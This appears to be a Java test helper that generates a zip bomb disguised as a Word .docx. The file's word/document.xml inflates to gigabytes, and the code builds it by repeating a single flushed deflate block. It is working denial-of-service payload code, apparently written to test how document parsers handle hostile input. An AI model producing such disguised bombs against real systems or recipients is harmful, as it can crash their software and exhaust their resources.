package org.gongwen.hostile;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.CRC32;
import java.util.zip.Deflater;

/**
 * Writes a zip bomb shaped like a .docx: a normal {@code [Content_Types].xml} and {@code _rels/.rels}, and a
 * {@code word/document.xml} that expands to gigabytes of spaces inside one {@code <w:t>}. The deflate stream is built
 * by repeating one independently compressed block (a flushed, byte-aligned deflate segment needs nothing before it),
 * so a bomb of any size is written in a second instead of compressing gigabytes.
 */
final class ZipBomb {
    private static final int BLOCK = 16 << 20;

    private ZipBomb() {
    }

    /** Writes the bomb; {@code expandedBytes} is the size of document.xml once inflated (below 4 GiB: no zip64). */
    static void write(Path target, long expandedBytes) throws IOException {
        if (expandedBytes >= 0xFFFF_FFFFL) {
            throw new IllegalArgumentException("no zip64: keep the expansion under 4 GiB");
        }
        List<Entry> entries = new ArrayList<>();
        entries.add(Entry.of("[Content_Types].xml", CONTENT_TYPES));
        entries.add(Entry.of("_rels/.rels", RELS));
        entries.add(bombEntry(expandedBytes));
        try (OutputStream out = Files.newOutputStream(target)) {
            writeZip(out, entries);
        }
    }

    private static Entry bombEntry(long expandedBytes) {
        byte[] head = DOCUMENT_HEAD.getBytes(StandardCharsets.UTF_8);
        byte[] tail = DOCUMENT_TAIL.getBytes(StandardCharsets.UTF_8);
        byte[] spaces = new byte[BLOCK];
        Arrays.fill(spaces, (byte) ' ');
        long blocks = Math.max(1, (expandedBytes - head.length - tail.length) / BLOCK);
        CRC32 crc = new CRC32();
        crc.update(head);
        for (long i = 0; i < blocks; i++) {
            crc.update(spaces);
        }
        crc.update(tail);
        byte[] headData = deflate(head, false);
        byte[] blockData = deflate(spaces, false);
        byte[] tailData = deflate(tail, true);
        long size = head.length + blocks * BLOCK + tail.length;
        return new Entry("word/document.xml", List.of(new Part(headData, 1), new Part(blockData, blocks),
                new Part(tailData, 1)), crc.getValue(), size);
    }

    /** Raw deflate of the input: a byte-aligned non-final segment, or the final one. */
    private static byte[] deflate(byte[] input, boolean last) {
        Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
        deflater.setInput(input);
        if (last) {
            deflater.finish();
        }
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        byte[] buffer = new byte[64 << 10];
        while (true) {
            int n = deflater.deflate(buffer, 0, buffer.length, last ? Deflater.NO_FLUSH : Deflater.SYNC_FLUSH);
            out.write(buffer, 0, n);
            if (last ? deflater.finished() : n < buffer.length && deflater.needsInput()) {
                break;
            }
        }
        deflater.end();
        return out.toByteArray();
    }

    private record Part(byte[] data, long times) {
    }

    private record Entry(String name, List<Part> parts, long crc, long size) {
        static Entry of(String name, String content) {
            byte[] bytes = content.getBytes(StandardCharsets.UTF_8);
            CRC32 crc = new CRC32();
            crc.update(bytes);
            return new Entry(name, List.of(new Part(deflate(bytes, true), 1)), crc.getValue(), bytes.length);
        }

        long compressedSize() {
            return parts.stream().mapToLong(p -> (long) p.data().length * p.times()).sum();
        }
    }

    private static void writeZip(OutputStream out, List<Entry> entries) throws IOException {
        ByteArrayOutputStream central = new ByteArrayOutputStream();
        long offset = 0;
        for (Entry entry : entries) {
            byte[] name = entry.name().getBytes(StandardCharsets.UTF_8);
            byte[] local = header(0x04034b50, entry, name, -1);
            out.write(local);
            for (Part part : entry.parts()) {
                for (long i = 0; i < part.times(); i++) {
                    out.write(part.data());
                }
            }
            central.write(header(0x02014b50, entry, name, offset));
            offset += local.length + entry.compressedSize();
        }
        ByteBuffer end = ByteBuffer.allocate(22).order(ByteOrder.LITTLE_ENDIAN);
        end.putInt(0x06054b50).putShort((short) 0).putShort((short) 0).putShort((short) entries.size())
                .putShort((short) entries.size()).putInt(central.size()).putInt((int) offset).putShort((short) 0);
        out.write(central.toByteArray());
        out.write(end.array());
    }

    /** A local header (offset -1) or a central directory header. */
    private static byte[] header(int signature, Entry entry, byte[] name, long offset) {
        boolean central = offset >= 0;
        ByteBuffer b = ByteBuffer.allocate((central ? 46 : 30) + name.length).order(ByteOrder.LITTLE_ENDIAN);
        b.putInt(signature);
        if (central) {
            b.putShort((short) 20);
        }
        b.putShort((short) 20).putShort((short) 0x0800).putShort((short) 8) // version, flags (UTF-8 names), deflate
                .putShort((short) 0).putShort((short) 0x5821) // 2024-01-01 00:00
                .putInt((int) entry.crc()).putInt((int) entry.compressedSize()).putInt((int) entry.size())
                .putShort((short) name.length).putShort((short) 0);
        if (central) {
            b.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt((int) offset);
        }
        b.put(name);
        return b.array();
    }

    private static final String CONTENT_TYPES = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
            + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
            + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
            + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument"
            + ".wordprocessingml.document.main+xml\"/></Types>";
    private static final String RELS = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
            + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
            + "officeDocument\" Target=\"word/document.xml\"/></Relationships>";
    private static final String DOCUMENT_HEAD = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>"
            + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
            + "<w:t xml:space=\"preserve\">关于做好年度工作的通知";
    private static final String DOCUMENT_TAIL = "</w:t></w:r></w:p></w:body></w:document>";
}
